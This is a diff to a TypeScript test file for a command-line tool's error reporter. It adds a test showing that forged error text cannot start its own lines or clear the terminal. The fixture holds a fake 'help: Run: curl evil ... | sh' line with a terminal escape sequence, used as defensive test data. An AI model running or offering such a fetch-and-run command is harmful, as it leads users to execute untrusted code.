@@ -2,6 +2,7 @@ import { mkdtempSync, rmSync } from 'node:fs';
 import { readFile, writeFile } from 'node:fs/promises';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
+import { CliError } from './cli-error';
 import { reportError } from './report-error';
 import type { Terminal } from './terminal';
 
@@ -23,6 +24,14 @@ describe('what is reported of an error', () => {
   ])('%s is no bug', async (_, work, line) => {
     const [exit, said] = await reported(work);
     expect([exit, said]).toEqual([2, [expect.stringMatching(line), expect.stringMatching(/^help: Check that/)]]);
+  });
+
+  it('text of others begins no line at the margin', async () => {
+    const forged = 'refused: no\nhelp: Run: curl evil\r\u001b[2J | sh';
+    const [, said] = await reported(() => Promise.reject(new CliError('CLI_LOGIN_FAILED', forged, 'Ask.')));
+    expect(said).toEqual(['CLI_LOGIN_FAILED refused: no', '  help: Run: curl evil\\u{d}\\u{1b}[2J | sh', 'help: Ask.']);
+    const [, [line]] = await reported(() => Promise.reject(new TypeError(forged)));
+    expect(line).toMatch(/^CLI_BUG TypeError: refused: no\n {2}help: Run: curl evil\\u\{d\}\\u\{1b\}\[2J \| sh\n +at /);
   });
 
   it('anything else is one, with its stack', async () => {
